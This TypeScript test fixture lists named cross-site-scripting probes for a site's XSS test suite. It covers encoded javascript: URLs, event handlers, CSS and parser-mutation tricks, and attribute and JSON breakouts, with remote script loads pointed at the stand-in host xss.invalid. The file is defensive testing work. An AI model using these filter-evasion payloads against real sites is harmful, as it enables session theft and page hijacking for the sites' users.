// Script-injection probes for the standing XSS suite, grouped by the trick each one tries: plain tags,
// URL schemes and their encodings, event handlers, CSS, parser confusion (the OWASP filter-evasion
// list), HTML5 elements and attributes (the HTML5 security cheat sheet), and breaking out of the
// contexts our pages put text into (attributes, inline JSON-LD and RSC scripts, XML feeds, templates).
// Every executable part calls alert/confirm/prompt, and every remote resource is on `xss.invalid`, so an
// execution shows as a dialog and a load as a request to a foreign host.

export interface TXssPayload {
  /** What the probe tries, for failure messages. */
  name: string;
  text: string;
}

const host = "xss.invalid";
const entities = (value: string, format: (code: number) => string) => [...value].map((char) => format(char.codePointAt(0) ?? 0)).join("");

const probes: Array<[string, string]> = [
  // Plain script tags and their spellings.
  ["script tag", "<script>alert(1)</script>"],
  ["remote script", `<SCRIPT SRC=http://${host}/a.js></SCRIPT>`],
  ["script with slash-separated attribute", `<SCRIPT/XSS SRC="http://${host}/b.js"></SCRIPT>`],
  ["protocol-relative script, no closing tag", `<SCRIPT SRC=//${host}/.j>`],
  ["script with half-open tag", `<SCRIPT SRC=http://${host}/c.js?< B >`],
  ["doubled open bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ["quoted > inside script attributes", `<SCRIPT a=">" SRC="http://${host}/d.js"></SCRIPT>`],
  ["attribute without name hiding >", `<SCRIPT "a='>'" SRC="http://${host}/e.js"></SCRIPT>`],
  ["malformed img then script", '<IMG """><SCRIPT>confirm("XSS")</SCRIPT>"\\>'],
  ["closing title then script", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ["closing script then script", "</script><script>alert(2)</script>"],
  ["closing textarea then script", "</textarea><script>alert(3)</script>"],
  ["closing style then script", "</style><script>alert(4)</script>"],
  ["svg script", "<svg><script>alert(5)</script></svg>"],
  ["xhtml-namespaced script", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(6)</x:script>'],

  // javascript: URLs and how filters miss them.
  ["img javascript src", `<IMG SRC="javascript:alert('XSS');">`],
  ["unquoted javascript src", "<IMG SRC=javascript:alert('XSS')>"],
  ["mixed-case scheme", "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ["quotes as entities", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"],
  ["backtick-quoted src", "<IMG SRC=`javascript:alert(\"it says, 'XSS'\")`>"],
  ["fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"],
  ["decimal entities", `<IMG SRC=${entities("javascript:alert('XSS')", (code) => `&#${code};`)}>`],
  ["zero-padded decimal entities without semicolons", `<IMG SRC=${entities("javascript:alert('XSS')", (code) => `&#${String(code).padStart(7, "0")}`)}>`],
  ["hex entities without semicolons", `<IMG SRC=${entities("javascript:alert('XSS')", (code) => `&#x${code.toString(16).toUpperCase()}`)}>`],
  ["embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"],
  ["encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ["encoded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ["encoded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ["leading spaces and control character", `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ["input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ["body background", `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ["img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`],
  ["bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`],
  ["table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ["iframe javascript src", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ["frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ["base href", `<BASE HREF="javascript:alert('XSS');//">`],
  ["anchor with entity-encoded scheme", '<a href="&#106;avascript:alert(7)">x</a>'],
  ["anchor navigating away", `<A HREF="javascript:document.location='http://${host}/'">XSS</A>`],
  ["math href", '<math href="javascript:javascript:alert(8)">CLICKME</math>'],
  ["video poster", "<video poster=javascript:alert(9)//></video>"],
  ["form button formaction", '<form id="test"></form><button form="test" formaction="javascript:alert(10)">X</button>'],
  ["bare javascript URL", "javascript:alert(11)"],
  ["bare data URL", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4="],
  ["vbscript URL", "vbscript:msgbox(13)"],

  // Event handlers.
  ["img onerror", "<img src=x onerror=alert(14)>"],
  ["img onerror, unclosed", '<IMG SRC="x" ONERROR="alert(15)"'],
  ["img onerror with entity-encoded code", `<img src=x onerror="${entities("javascript:alert('XSS')", (code) => `&#${String(code).padStart(7, "0")}`)}">`],
  ["img onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`],
  ["anchor onmouseover", '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ["svg onload", "<svg/onload=alert(16)>"],
  ["body onload", "<BODY ONLOAD=alert(17)>"],
  ["handler name with punctuation", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ["iframe onmouseover", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ["autofocus input", "<input onfocus=alert(18) autofocus>"],
  ["autofocus select", "<select onfocus=alert(19) autofocus>"],
  ["autofocus textarea", "<textarea onfocus=alert(20) autofocus>"],
  ["autofocus keygen", "<keygen onfocus=alert(21) autofocus>"],
  ["video source onerror", '<video><source onerror="alert(22)">'],
  ["details ontoggle", "<details open ontoggle=alert(23)>"],
  ["marquee onstart", "<marquee onstart=alert(24)>x</marquee>"],
  ["animation event", '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(25)"></div>'],
  ["body onscroll with autofocus below", `<body onscroll=alert(26)>${"<br>".repeat(20)}<input autofocus>`],

  // CSS.
  ["list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ["stylesheet link with javascript", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ["remote stylesheet", `<LINK REL="stylesheet" HREF="http://${host}/a.css">`],
  ["style @import", `<STYLE>@import'http://${host}/b.css';</STYLE>`],
  ["Link header in meta", `<META HTTP-EQUIV="Link" Content="<http://${host}/c.css>; REL=stylesheet">`],
  ["-moz-binding", `<STYLE>BODY{-moz-binding:url("http://${host}/a.xml#xss")}</STYLE>`],
  ["expression split by comment", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ["div background javascript", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ["div expression", `<DIV STYLE="width: expression(alert('XSS'));">`],

  // Embedded documents.
  ["meta refresh to javascript", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ["meta refresh to data", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ["scriptlet object", `<OBJECT TYPE="text/x-scriptlet" DATA="http://${host}/scriptlet.html"></OBJECT>`],
  ["object with data URL", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4="></object>'],
  [
    "embed svg data URL",
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMjgpIi8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  ["iframe srcdoc", '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;29&rpar;&gt;"></iframe>'],
  ["unclosed remote iframe", `<iframe src=http://${host}/frame.html <`],
  ["svg script by data URL", "<svg><script xlink:href=data:,alert(30) /></svg>"],

  // Parser confusion and mutation.
  ["comment confusion", '<!--<img src="--><img src=x onerror=alert(31)//">'],
  ["noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(32)>">'],
  ["svg style mutation", "<svg><style><img src=x onerror=alert(33)></style></svg>"],
  ["CDATA breakout", "]]><script>alert(34)</script><![CDATA["],
  ["xml stylesheet instruction", '<?xml-stylesheet href="javascript:alert(35)"?>'],
  ["control characters and noncharacters", "<scr\u0001ipt>alert(36)</scr\u000bipt>\u001f\uFFFE\uFFFF"],

  // Breaking out of the context the text lands in.
  ["double-quoted attribute breakout", '" onmouseover="alert(37)" x="'],
  ["single-quoted attribute breakout", "' autofocus onfocus='alert(38)' x='"],
  ["attribute breakout then tag", '"><script>alert(39)</script>'],
  ["JS string breakout", "\\\";alert('XSS');//"],
  ["JSON breakout", '"}]});alert(40);//'],
  ["line separators in script", "\u2028\u2029alert(41)//"],
  ["template expression", "{{constructor.constructor('alert(42)')()}}"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is the literal text of a template placeholder.
  ["template literal", "${alert(43)}"],
  ["unicode-escaped tag", "\\u003cscript\\u003ealert(44)\\u003c/script\\u003e"],
  ["fullwidth brackets", "＜script＞alert(45)＜/script＞"],
];

export const XSS_PAYLOADS: TXssPayload[] = probes.map(([name, text]) => ({ name, text }));

/**
 * Link addresses that pass the scheme check (http, https, mailto) but try to break out of the href
 * attribute or smuggle markup in; the probes above that start with another scheme must be refused.
 */
export const XSS_HREFS: string[] = [
  `https://${host}/"onmouseover="alert(46)`,
  `https://${host}/'><script>alert(47)</script>`,
  `https://${host}/</script><script>alert(48)</script>`,
  `https://${host}/#"><img src=x onerror=alert(49)>`,
  `mailto:x@${host}?subject="><img src=x onerror=alert(50)>`,
  `HTTPS://${host}/\u2028alert(51)`,
];

/** Characters PostgreSQL cannot store: every write must refuse them with a message (422), never a 500. */
export const UNSTORABLE_PROBES: TXssPayload[] = [
  { name: "NUL inside a tag", text: "<scr\u0000ipt>alert(52)</scr\u0000ipt>" },
  { name: "unpaired surrogate", text: "\uD800<script>alert(53)</script>" },
];
